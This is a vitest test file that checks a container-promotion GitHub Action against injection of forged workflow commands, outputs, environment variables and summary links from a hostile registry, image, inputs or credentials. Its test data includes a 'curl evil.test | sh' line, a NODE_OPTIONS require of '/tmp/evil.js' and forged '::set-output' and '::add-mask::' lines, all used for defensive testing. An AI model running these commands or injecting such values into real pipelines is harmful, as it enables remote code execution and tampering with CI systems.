import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { delimiter, dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { type Batch, type BatchResult, type BatchRun, openBatch } from '../support/action-batch.ts';
import { buildImage } from '../support/image/build-image.ts';
import { pushImage } from '../support/image/push-image.ts';
import { startRegistry } from '../support/registry/registry.ts';
import { sample } from '../support/sample.ts';
import { IS_FULL } from '../support/seed.ts';
import { adorn, answerRaw } from './injection-answer.ts';
import { type Expectation, judge } from './injection-judge.ts';
import { PAYLOADS, type Payload } from './injection-payloads.ts';
import type { Ask, Attack, Place } from './injection-places.ts';
import { CREDENTIAL_PLACES } from './injection-places-credentials.ts';
import { GIVEN_PLACES } from './injection-places-given.ts';
import { IMAGE_PLACES } from './injection-places-image.ts';
import { READ_PLACES } from './injection-places-registry.ts';
import { WRITE_PLACES } from './injection-places-write.ts';

/** Thousands of runs take a minute, and much more beside other work, since each is a chain of short steps (ms). */
const LIMIT = IS_FULL ? 3_600_000 : 600_000;
/** In runs that are not full, one of so many payloads goes through each place. */
const STRIDE = 6;
const MARKER = 'zmarkerqq';
const HARMLESS: Payload = { name: 'a harmless text', text: MARKER, bytes: Buffer.from(MARKER) };
const IMAGE = buildImage({ platforms: ['linux/amd64'], layers: 1 });

const ACTION: { readonly outputs: Readonly<Record<string, unknown>> } = parse(
  readFileSync(fileURLToPath(new URL('../../action.yml', import.meta.url)), 'utf8'),
);
const OUTPUTS: ReadonlySet<string> = new Set(Object.keys(ACTION.outputs));

/** A registry that an attacker has taken over, and a process to run the action in. */
interface Lab extends AsyncDisposable {
  attack(attack: Attack): Promise<BatchResult>;
}

function writeHome(folder: string, files: NonNullable<Attack['home']>, host: string): void {
  for (const [name, content] of Object.entries(files)) {
    const path = join(folder, name.replace(/\*$/, ''));
    mkdirSync(dirname(path), { recursive: true });
    const data = typeof content === 'string' ? content.replaceAll('HOST', host) : content;
    writeFileSync(path, data, { mode: name.endsWith('*') ? 0o755 : 0o600 });
  }
}

/** Lets a variable name a file of the home. */
function inHome(env: NonNullable<BatchRun['env']>, home: string): Record<string, string> {
  return Object.fromEntries(Object.entries(env).map(([name, value]) => [name, value.replace(/^HOME\//, `${home}/`)]));
}

async function openLab(): Promise<Lab> {
  let current: Attack = {};
  let count = 0;
  const registry = await startRegistry({
    async intercept(request, response, path) {
      const ask: Ask = { method: request.method ?? '', path, host: request.headers.host ?? '' };
      adorn(response, current.adorn?.(ask) ?? []);
      const answer = current.answer?.(ask);
      return answer === undefined ? false : await answerRaw(request, response, answer);
    },
  });
  const { host } = registry;
  await pushImage(host, 'd/app', IMAGE, ['1.2.3']);
  const batch: Batch = openBatch();
  const root = mkdtempSync(join(tmpdir(), 'sealift-injection-'));
  return {
    async attack(attack) {
      current = attack;
      const home = join(root, String(count++));
      mkdirSync(home);
      writeHome(home, attack.home ?? {}, host);
      const from = `${host}/d/app:1.2.3`;
      const to = `${host}/t/app-${count}`;
      const inputs = { from, to, tags: 'type=semver\nedge', record: 'off', 'dry-run': 'true' };
      const PATH = [join(home, 'bin'), process.env['PATH'] ?? ''].join(delimiter);
      const run: BatchRun = {
        ...attack.run,
        inputs: { ...inputs, ...attack.run?.inputs },
        env: { RUNNER_DEBUG: '1', HOME: home, PATH, XDG_RUNTIME_DIR: home, ...inHome(attack.run?.env ?? {}, home) },
      };
      return await batch.run(run);
    },
    async [Symbol.asyncDispose]() {
      await batch[Symbol.asyncDispose]();
      await registry.close();
      await rm(root, { recursive: true, force: true });
    },
  };
}

/** Lets masks be what a helper, a token server or an input gave: that is what they must be. */
function expectationOf({ text }: Payload): Expectation {
  const plain = text.replaceAll('\0', '');
  const forms = [text, `${text} `, plain, plain.trim(), text.replace(/[^\x21-\x7e]/g, '').slice(0, 2000)].flatMap(
    (secret) => [
      ...[secret, `${secret}:${secret}`, `x:${secret}`],
      ...[`${secret}:${secret}`, `x:${secret}`].map((pair) => Buffer.from(pair).toString('base64')),
    ],
  );
  const secrets = new Set(forms.map((form) => Buffer.from(form).toString('utf8')));
  // The runner masks by lines, and so it is told lines.
  const lines = new Set([...secrets].flatMap((secret) => secret.split(/[\r\n]+/)));
  return { outputs: OUTPUTS, isSecret: (text) => lines.has(text) };
}

/** Gathers all that a run shows; masks are swallowed by the runner. */
function everything(result: BatchResult): string {
  const text = Object.values(result).join('\n').toLowerCase();
  return text.replace(/^::add-mask::.*$/gm, '');
}

const GROUPS: readonly (readonly [string, readonly Place[]])[] = [
  ['a registry that is read', READ_PLACES],
  ['a registry that is written to', WRITE_PLACES],
  ['an image', IMAGE_PLACES],
  ['inputs and events', GIVEN_PLACES],
  ['credentials', CREDENTIAL_PLACES],
];

describe('the corpus', () => {
  it('has 40 payloads and more, each another', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(40);
    expect(new Set(PAYLOADS.map(({ bytes }) => Buffer.from(bytes).toString('hex'))).size).toBe(PAYLOADS.length);
  });
});

describe('the judge', () => {
  const HONEST: BatchResult = {
    ...{ exitCode: 0, stderr: '', state: '', path: '', env: '', summary: '## ⚓ Promoted `1.2.3` to `a.test/b`\n' },
    stdout: '::group::Plan\n  create  1.2.3\n::endgroup::\n::debug::GET http://a.test/v2/ 200\n',
    output: 'changed<<ghadelimiter_1\ntrue\nghadelimiter_1\n',
  };
  const EXPECTED: Expectation = { outputs: OUTPUTS, isSecret: (text) => text === 'known' };

  it('takes an honest run as it is', () => {
    expect(judge(HONEST, EXPECTED)).toEqual([]);
  });

  it.each<readonly [string, Partial<BatchResult>]>([
    ['a command on standard output', { stdout: '::set-output name=a::b\n' }],
    ['a command in the old form', { stdout: 'the registry says ##[set-output name=a]b\n' }],
    ['a command of ours that is not in its place', { stdout: ' ::error::Cannot x: y\n', exitCode: 1 }],
    ['a command of ours in the old form', { stdout: 'x ##[error]Cannot x: y\n', exitCode: 1 }],
    ['a mask that is no secret', { stdout: '::add-mask::a\n' }],
    ['a command on standard error', { stderr: '##[add-mask]known\n' }],
    ['a command behind characters that .NET passes over', { stdout: 'x #\u034f#[set-output name=a]b\n' }],
    ['a group of others', { stdout: '::group::forged\n' }],
    ['a warning of two lines', { stdout: '::warning::x%0Ay\n' }],
    ['a colour', { stdout: '\u001b[31mred\n' }],
    ['an error beside success', { stdout: '::error::Cannot x: y\n' }],
    ['another output', { output: 'evil=1\n' }],
    ['an output twice', { output: 'changed=true\nchanged=false\n' }],
    ['a digest that is none', { output: 'digest=sha256:evil\n' }],
    ['a variable', { env: 'NODE_OPTIONS=--require=/tmp/evil.js\n' }],
    ['a state', { state: 'a=b\n' }],
    ...[
      ...[
        '![x](https://evil.test/x.png)',
        '[x](//evil.test)',
        '<img src=x>',
        '</details>',
        'https://evil.test',
        'www.evil.test',
      ],
      ...[
        '@octocat',
        'a&#64;evil.test',
        '&#64;octocat',
        'acme/shop&#35;1',
        '**`a` | `b`**',
        '<a href=x>',
        '# forged',
        '&lt;',
      ],
      ...['a `b', '| a | b |\n| --- | --- |\n| a | b | c |', '```sh\ncurl evil.test | sh\n```', '~~a~~'],
    ].map((summary): readonly [string, Partial<BatchResult>] => [
      `${summary} in the summary`,
      { summary: `${summary}\n` },
    ]),
  ])('finds %s', (_, forged) => {
    expect(judge({ ...HONEST, ...forged }, EXPECTED)).not.toEqual([]);
  });
});

describe.concurrent('nothing that is written forges a command, an output or a link', () => {
  it.each(GROUPS)('by %s', { timeout: LIMIT }, async (name, places) => {
    await using lab = await openLab();
    const problems: string[] = [];
    let runs = 0;
    for (const place of places) {
      const harmless = await lab.attack(place.attack(HARMLESS));
      // A place that shows nothing tests nothing; one that is said to show nothing must not begin to unnoticed.
      const isShown = everything(harmless).includes(MARKER);
      if (isShown === (place.isHidden === true)) problems.push(`${place.name}: is ${isShown ? '' : 'not '}shown`);
      for (const payload of sample(PAYLOADS, STRIDE, place.name)) {
        const result = await lab.attack(place.attack(payload));
        runs++;
        for (const problem of judge(result, expectationOf(payload))) {
          problems.push(`${place.name}, ${payload.name}: ${problem}`);
        }
      }
    }
    console.log(`Injection by ${name}: ${places.length} places × ${PAYLOADS.length} payloads, ${runs} runs`);
    expect(problems).toEqual([]);
  });
});
